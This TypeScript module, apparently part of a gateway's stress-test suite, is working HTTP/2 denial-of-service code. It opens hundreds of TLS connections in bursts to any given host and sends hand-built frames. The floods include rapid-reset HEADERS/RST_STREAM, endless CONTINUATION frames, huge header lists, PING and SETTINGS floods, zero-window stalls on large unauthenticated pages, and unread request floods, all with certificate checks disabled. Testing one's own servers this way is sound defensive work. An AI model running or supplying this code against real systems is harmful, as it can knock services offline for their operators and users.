/**
 * Connections of HTTP/2 that keep to its frames and to nothing else: requests taken back at once, headers that never
 * end, pings and settings without end, windows of nothing, more requests than are allowed. What is written are frames
 * of our own, since no client would. Read next: attacker.ts (which runs them), gateway/front/api/http/streams.ts.
 */
import { setTimeout as pause } from 'node:timers/promises'
import { connect, type TLSSocket } from 'node:tls'
import type { Attack } from './attack.ts'

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
/** RFC 9113 §6, §6.5.2 and §7. */
const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const PING = 6
const CONTINUATION = 9
const END_STREAM = 1
const END_HEADERS = 4
const INITIAL_WINDOW_SIZE = 4
const CANCEL = 8

const CONNECTIONS = 400
/** Connections of a burst, and between two bursts, ms. */
const BURST = 20
const BURST_EVERY_MS = 100
/** Between two writes on a connection, ms, and the frames of one. */
const WRITE_EVERY_MS = 50
const FRAMES = 200
/** The largest answers that need no credential. */
const PAGES = ['/openapi.json', '/docs/static/swagger-ui-bundle.js', '/verify', '/asyncapi.json']

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
/** A literal without an index, neither of the texts packed (RFC 7541 §6.2.2); texts below 127 bytes. */
const field = (name: string, value: string) =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)])
const asking = (path: string, ...more: Buffer[]) =>
  Buffer.concat([
    ...[field(':method', 'GET'), field(':scheme', 'https'), field(':authority', 'localhost'), field(':path', path)],
    ...more,
  ])
const settings = (id: number, value: number) =>
  frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, id]), uint32(value)]))

/** The nth write on a connection, after its greeting. `stream`: the first of as many odd ids as there are frames. */
type Behaviour = { readonly greeting?: Buffer; readonly reads: boolean; write(n: number, stream: number): Buffer }

const each = (make: (index: number) => Buffer) =>
  Buffer.concat(Array.from({ length: FRAMES }, (_, index) => make(index)))

const BEHAVIOURS: Readonly<Record<string, Behaviour>> = {
  'requests taken back': {
    reads: true,
    write: (_, stream) =>
      each((index) =>
        Buffer.concat([
          frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * index, asking('/v1/machines')),
          frame(RST_STREAM, 0, stream + 2 * index, uint32(CANCEL)),
        ]),
      ),
  },
  'headers without an end': {
    reads: true,
    write: (n) =>
      n === 0
        ? frame(HEADERS, END_STREAM, 1, asking('/'))
        : each((index) => frame(CONTINUATION, 0, 1, field(`x-${index}`, 'x'.repeat(100)))),
  },
  'lists of headers': {
    reads: true,
    write: (_, stream) => {
      const list = Array.from({ length: 100 }, (_, index) => field(`x-${index}`, 'x'.repeat(100)))
      return Buffer.concat(
        [0, 2, 4].map((id) => frame(HEADERS, END_STREAM | END_HEADERS, stream + id, asking('/', ...list))),
      )
    },
  },
  pings: { reads: false, write: () => each(() => frame(PING, 0, 0, Buffer.alloc(8))) },
  settings: { reads: false, write: () => each((index) => settings(INITIAL_WINDOW_SIZE, 1_000 + index)) },
  'windows of nothing': {
    greeting: settings(INITIAL_WINDOW_SIZE, 0),
    reads: true,
    write: (n, stream) =>
      n > 4
        ? Buffer.alloc(0)
        : Buffer.concat(
            PAGES.map((page, index) => frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * index, asking(page))),
          ),
  },
  'a thousand requests, nothing read': {
    reads: false,
    write: (n, stream) =>
      n >= 1_000 / FRAMES
        ? Buffer.alloc(0)
        : each((index) =>
            frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * index, asking(PAGES[index % PAGES.length]!)),
          ),
  },
}

export const http2Names = Object.keys(BEHAVIOURS)

/** Says how many writes were made on connections that were still open. */
export const http2Attack =
  (name: string): Attack =>
  async ({ hostname, port }, signal) => {
    const behaviour = BEHAVIOURS[name]!
    const sockets = new Set<TLSSocket>()
    let writes = 0
    while (!signal.aborted) {
      for (let burst = 0; burst < BURST; burst += 1) {
        if (sockets.size >= CONNECTIONS) break
        open(hostname, Number(port), behaviour, sockets, () => {
          writes += 1
        })
      }
      await pause(BURST_EVERY_MS)
    }
    for (const socket of sockets) socket.destroy()
    return writes
  }

function open(
  host: string,
  port: number,
  { greeting, reads, write }: Behaviour,
  sockets: Set<TLSSocket>,
  did: () => void,
) {
  const socket = connect({ host, port, ALPNProtocols: ['h2'], rejectUnauthorized: false })
  sockets.add(socket)
  let n = 0
  let timer: NodeJS.Timeout | undefined
  socket.on('error', () => undefined)
  socket.once('close', () => {
    clearInterval(timer)
    sockets.delete(socket)
  })
  socket.once('secureConnect', () => {
    if (!reads) socket.pause()
    socket.write(Buffer.concat([PREFACE, greeting ?? frame(SETTINGS, 0, 0, Buffer.alloc(0))]))
    timer = setInterval(() => {
      if (socket.writableNeedDrain) return
      socket.write(write(n, 1 + 2 * FRAMES * n))
      n += 1
      did()
    }, WRITE_EVERY_MS)
  })
  socket.resume()
}
